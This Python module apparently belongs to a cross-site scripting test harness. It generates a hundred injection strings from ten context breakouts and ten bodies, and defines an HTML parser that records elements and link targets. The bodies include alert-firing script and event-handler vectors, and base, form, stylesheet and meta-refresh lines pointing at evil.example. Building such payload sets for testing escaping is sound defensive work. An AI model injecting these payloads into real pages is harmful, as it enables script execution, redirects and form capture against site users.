"""A hundred texts that would run a script, or load something, on a page that does not escape them."""

from html.parser import HTMLParser

BREAKOUTS = (
    "",
    '">',
    "'>",
    "</td></tr></table>",
    "</title>",
    "-->",
    "</textarea></select>",
    "`}}",
    "&quot;&gt;",
    "]]>",
)
BODIES = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "<a href=javascript:alert(1)>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<style>@import'//evil.example/x.css'</style>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>",
    "{{ 7 * 7 }}<meta http-equiv=refresh content=0;url=//evil.example>",
)
PAYLOADS = tuple(start + body for start in BREAKOUTS for body in BODIES)
LEADS_TO = ("href", "src", "action", "formaction")


class Skeleton(HTMLParser):
    """What a page is built of: its elements with the names of their attributes, and where they lead."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, ...]] = []
        self.leads_to: set[str] = set()
        self.text = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        """Note an element."""
        self.elements.append((tag, *(name for name, _ in attributes)))
        self.leads_to |= {value or "" for name, value in attributes if name in LEADS_TO}

    def handle_data(self, data: str) -> None:
        """Note what a reader sees."""
        self.text += data
